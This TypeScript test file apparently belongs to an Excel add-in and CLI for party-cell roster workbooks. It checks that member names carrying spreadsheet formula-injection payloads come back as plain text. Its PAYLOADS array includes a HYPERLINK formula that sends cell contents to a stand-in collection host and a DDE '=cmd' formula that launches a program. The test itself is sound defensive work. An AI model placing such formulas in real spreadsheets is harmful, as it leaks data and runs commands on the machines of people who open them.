/**
 * Formula injection (issue 7): every cell the add-in and the command line write from the clerk's text is
 * text. Names beginning with `=`, `+`, `-`, `@`, a tab or a carriage return (each carrying a marker "Ẩn…")
 * go through `check --out`, `aggregate --out` and the add-in on the fake Excel host; wherever a marker is
 * written it is a plain string, never a formula, and no formula anywhere mentions one. Names are written
 * trimmed, so "\t=1+1 …" comes back as "=1+1 …": exactly the text that must not become a formula.
 */
import ExcelJS from 'exceljs';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RESULT_SHEETS } from '../../src/core/forms/definitions';
import { checkOpenWorkbook } from '../../src/office/runCheck';
import { FakeExcelHost } from '../fake-excel';
import { run } from '../helpers/cli';
import { build, example } from '../helpers/workbook';

const PAYLOADS = [
  '=HYPERLINK("https://thu-thap.example.net/?"&B7,"Ẩn1")',
  '+1+1 Ẩn2',
  '-1+1 Ẩn3',
  '@SUM(1) Ẩn4',
  '\t=1+1 Ẩn5',
  '\r=1+1 Ẩn6',
  "=cmd|' /C calc'!A0 Ẩn7",
];
const MARKER = /Ẩn\d/;

/** The example with the payloads as names (roll and tally alike, one only in the tally), chi bộ name and a note. */
async function poisoned(): Promise<Uint8Array> {
  const data = example();
  PAYLOADS.slice(0, 5).forEach((p, i) => {
    data.roll[i + 1].name = p;
    data.tally[i + 1].name = p;
  });
  // Only in the tally: DATA-08 quotes it in Kiểm tra and in the flag's note.
  data.tally[6].name = PAYLOADS[5];
  data.roll[7].note = PAYLOADS[6];
  data.info.chiBo = '=Thanh Khê Ẩn8';
  const { workbook } = build(data);
  return new Uint8Array((await workbook.xlsx.writeBuffer()) as ArrayBuffer);
}

interface Written {
  readonly where: string;
  readonly text: string;
}

/** Every marker-carrying value of an .xlsx, and every formula, as ExcelJS reads them back. */
async function scanXlsx(path: string): Promise<{ texts: Written[]; formulas: Written[]; notes: Written[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  const texts: Written[] = [];
  const formulas: Written[] = [];
  const notes: Written[] = [];
  wb.eachSheet((ws) => {
    ws.eachRow({ includeEmpty: false }, (row) => {
      row.eachCell({ includeEmpty: false }, (cell) => {
        const where = `${ws.name}!${cell.address}`;
        if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas.push({ where, text: String(cell.formula) });
        else if (cell.type === ExcelJS.ValueType.String && MARKER.test(cell.value as string)) texts.push({ where, text: cell.value as string });
        else if (cell.type === ExcelJS.ValueType.RichText && MARKER.test(cell.text)) texts.push({ where, text: cell.text });
        else if (MARKER.test(cell.text)) formulas.push({ where, text: `${cell.type}: ${cell.text}` });
        const note = cell.note;
        if (note) notes.push({ where, text: typeof note === 'string' ? note : (note.texts ?? []).map((t) => t.text).join('') });
      });
    });
  });
  return { texts, formulas, notes };
}

let dir: string;
let input: string;
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'xeploai-inject-'));
  input = join(dir, 'chi-bo.xlsx');
  writeFileSync(input, await poisoned());
});
afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('formula injection', () => {
  it('xeploai check --out: the names are written back as text in the result sheets, Kiểm tra and the notes; no formula mentions them', async () => {
    const out = join(dir, 'checked.xlsx');
    const r = await run('check', input, '--out', out);
    expect(r.code).toBe(1);
    const { texts, formulas, notes } = await scanXlsx(out);
    expect(formulas.filter((f) => MARKER.test(f.text))).toEqual([]);
    // Written where the clerk reads them, so the test would see a formula there.
    const sheetsWithMarkers = new Set(texts.map((t) => t.where.split('!')[0]));
    for (const sheet of [RESULT_SHEETS.members, RESULT_SHEETS.issues]) expect(sheetsWithMarkers).toContain(sheet);
    for (const p of PAYLOADS.slice(0, 5)) expect(texts.some((t) => t.where.startsWith(RESULT_SHEETS.members) && t.text === p.trim())).toBe(true);
    expect(texts.some((t) => t.where.startsWith(RESULT_SHEETS.issues) && t.text.includes('Ẩn6'))).toBe(true);
    expect(notes.some((n) => n.text.includes('Ẩn6'))).toBe(true);
  });

  it('xeploai aggregate --out: the ward workbook holds them as text too', async () => {
    const out = join(dir, 'ward.xlsx');
    const r = await run('aggregate', input, '--out', out);
    expect([0, 1]).toContain(r.code);
    const { texts, formulas } = await scanXlsx(out);
    expect(formulas.filter((f) => MARKER.test(f.text))).toEqual([]);
    expect(texts.some((t) => t.text.includes('Ẩn8'))).toBe(true);
    expect(texts.some((t) => t.text.includes('Ẩn6'))).toBe(true);
  });

  it('the add-in (fake Excel host, which turns typed "=…", "+…", "-…" into formulas as Excel does): result sheets, Kiểm tra and notes hold text', async () => {
    const host = await FakeExcelHost.fromXlsx(await poisoned());
    const restore = host.installGlobals();
    try {
      await checkOpenWorkbook();
    } finally {
      restore();
    }
    const texts: Written[] = [];
    const formulas: Written[] = [];
    for (const sheet of host.sheetNames()) {
      host.getValues(sheet).forEach((row, r) =>
        row.forEach((v, c) => {
          const where = `${sheet}!R${r + 1}C${c + 1}`;
          if (v !== null && typeof v === 'object' && 'formula' in v) formulas.push({ where, text: v.formula });
          else if (typeof v === 'string' && MARKER.test(v)) texts.push({ where, text: v });
        }),
      );
    }
    expect(formulas.filter((f) => MARKER.test(f.text))).toEqual([]);
    for (const p of PAYLOADS.slice(0, 5)) expect(texts.some((t) => t.where.startsWith(RESULT_SHEETS.members) && t.text === p.trim())).toBe(true);
    expect(texts.some((t) => t.where.startsWith(RESULT_SHEETS.issues) && t.text.includes('Ẩn6'))).toBe(true);
    expect(host.getNotes().some((n) => n.content.includes('Ẩn6'))).toBe(true);
  });
});
